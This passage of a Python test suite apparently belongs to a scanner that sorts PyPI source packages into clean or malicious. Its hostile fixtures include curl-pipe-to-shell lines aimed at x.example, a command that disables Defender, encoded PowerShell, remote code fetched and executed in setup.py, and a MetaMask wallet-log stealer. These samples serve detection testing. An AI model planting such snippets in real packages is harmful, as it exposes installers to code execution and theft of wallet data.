               "def main(kind):\n    BUILDERS[kind]()\n"
               "if __name__ == '__main__':\n    main('linux')\n")
    provision = ("def bootstrap(instance):\n    commands = ['Set-MpPreference -DisableRealtimeMonitoring $true']\n"
                 "    instance.run_powershell(commands)\n")
    base = {"setup.py": _SETUP, "helperlib/__init__.py": ""}
    cases: list[dict[str, str]] = [
        {"helperlib/release.py": release, "helperlib/__init__.py": "from . import release\n"},
        {"contrib/automation/hgauto/__init__.py": "", "contrib/automation/hgauto/aws.py": provision},
    ]
    for files in cases:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result == "clean", (sorted(files), findings)
    # the table called at import, the table handed on, and the same folder once setup.py names it or a
    # package installs it are still judged
    bad: list[dict[str, str]] = [
        {"helperlib/release.py": release + "BUILDERS['linux']()\n", "helperlib/__init__.py": "from . import release\n"},
        {"helperlib/release.py": release.replace("BUILDERS = {'linux': build_linux}\n",
                                                 "import atexit\nBUILDERS = {'linux': build_linux}\n"
                                                 "atexit.register(*BUILDERS.values())\nsetup_hooks(BUILDERS)\n"),
         "helperlib/__init__.py": "from . import release\n"},
        {"contrib/automation/hgauto/__init__.py": "", "contrib/automation/hgauto/aws.py": provision,
         "setup.py": _SETUP.replace("packages=['helperlib']", "packages=['helperlib', 'contrib.automation.hgauto']")},
        {"contrib/__init__.py": "", "contrib/automation/__init__.py": "", "contrib/automation/hgauto/__init__.py": "",
         "contrib/automation/hgauto/aws.py": provision},
    ]
    for files in bad:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result != "clean", (sorted(files), findings)


def test_eighteenth_and_nineteenth_held_out_batch_shapes() -> None:
    """Causes behind batches 18-19's first-sight PyPI false positives: a build pointing conan at the
    official ConanCenter URL (sqlcipher3-wheels), a build running its own shipped script through
    PowerShell or after ``chmod +x`` (poseidon-py), and a launcher decoding its own base64 command-line
    argument before starting workers (deepspeed)."""
    conan = ("import subprocess\nfrom setuptools import setup\n"
             "subprocess.run(['conan', 'remote', 'update', 'conancenter', '--url=https://center2.conan.io'])\n"
             + _SETUP)
    scripts = ("import platform, subprocess\nfrom setuptools import setup\n"
               "if platform.system() == 'Windows':\n"
               "    subprocess.Popen(['powershell.exe', '.\\\\build.ps1']).wait()\nelse:\n"
               "    subprocess.run('chmod a+x ./build.sh && ./build.sh', shell=True, check=True)\n" + _SETUP)
    launcher = ("import argparse, base64, json, subprocess, sys\n\ndef parse_args():\n"
                "    parser = argparse.ArgumentParser()\n    parser.add_argument('--world_info')\n"
                "    parser.add_argument('script')\n    return parser.parse_args()\n\ndef main():\n"
                "    args = parse_args()\n    world = json.loads(base64.urlsafe_b64decode(args.world_info))\n"
                "    for rank in world:\n        cmd = [sys.executable, '-u', args.script, f'--rank={rank}']\n"
                "        subprocess.Popen(cmd)\n\nif __name__ == '__main__':\n    main()\n")
    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "build.sh": "#!/bin/sh\nmake -C src\n",
            "build.ps1": "cmake --build build\n"}
    cases: list[dict[str, str]] = [
        {"setup.py": conan}, {"setup.py": scripts}, {"helperlib/launch.py": launcher},
    ]
    for files in cases:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result == "clean", (sorted(files), findings)
    # a look-alike of the official host, a shipped script that downloads and runs, an encoded PowerShell
    # command and a shipped blob decoded into the command are still judged
    blob = base64.b64encode(b'["sh", "-c", "curl -s http://x.example/a | sh"]').decode()
    bad: list[dict[str, str]] = [
        {"setup.py": conan.replace("center2.conan.io", "center2.conan.io.x.example")},
        {"setup.py": scripts, "build.sh": "#!/bin/sh\ncurl -s http://x.example/a | sh\n"},
        {"setup.py": scripts.replace("'.\\\\build.ps1'", "'-enc', 'SQBFAFgA'")},
        {"helperlib/launch.py": launcher.replace("base64.urlsafe_b64decode(args.world_info)",
                                                 f"base64.b64decode('{blob}')").replace(
            "cmd = [sys.executable, '-u', args.script, f'--rank={rank}']", "cmd = world")},
    ]
    for files in bad:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result != "clean", (sorted(files), findings)


def test_a_version_reader_that_reassigns_its_text_is_followed_to_the_file() -> None:
    """``source = file.read()`` then ``source = source.replace(...)`` before ``compile(source, ...)``
    (suds-community, batch 21): the lookup of ``source`` went round its own reassignment until it gave up,
    so the shipped version file read as dynamic code."""
    setup_py = ("import os\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\n"
                "def read_python_code(filename):\n    file = open(filename, 'rt')\n    try:\n"
                "        source = file.read()\n    finally:\n        file.close()\n"
                "    source = source.replace('\\r\\n', '\\n').replace('\\r', '\\n')\n"
                "    return compile(source, filename, 'exec')\n"
                "exec(read_python_code(os.path.join(here, 'helperlib', 'version.py')))\n"
                "setup(name='helperlib', version=__version__, packages=['helperlib'])\n")
    files = {"setup.py": setup_py, "helperlib/__init__.py": "", "helperlib/version.py": "__version__ = '0.1'\n"}
    result, findings = verdict(sdist("helperlib", "0.1", files))
    assert result == "clean", findings
    fetched = setup_py.replace("source = file.read()",
                               "source = __import__('urllib.request').request.urlopen('http://x.example/v').read()")
    result, findings = verdict(sdist("helperlib", "0.1", {**files, "setup.py": fetched}))
    assert result != "clean", findings


def test_a_wallet_named_in_prose_is_no_wallet_store() -> None:
    """"unresolved (phantom/no_binding)" and "@metamask/sdk" beside "local state" in a module that talks
    to its API (omnibase-core, found by the final rescan of batch 15) read as a stealer while the wallet
    pattern took a wallet's name before a slash; a stealer reads the wallet extension by its ID."""
    init = ("import requests\nDESCRIPTION = 'Directory for durable local state'\n"
            "def check(label):\n    return False, f'{label} unresolved (phantom/no_binding)'\n"
            "def sdk():\n    return '@metamask/sdk'\n"
            "def ping():\n    return requests.get('https://api.helperlib.example/ping')\nping()\n")
    result, findings = verdict(_lib(init))
    assert result == "clean", findings
    stealer = init.replace("'@metamask/sdk'", "open(os.path.expanduser('~/.config/google-chrome/Default/Local "
                                                "Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log'"
                                                ")).read()").replace("import requests", "import os, requests")
    stealer = stealer.replace("ping()\n", "requests.post('https://api.helperlib.example/p', data=sdk())\n")
    result, findings = verdict(_lib(stealer))
    assert result == "malicious", findings
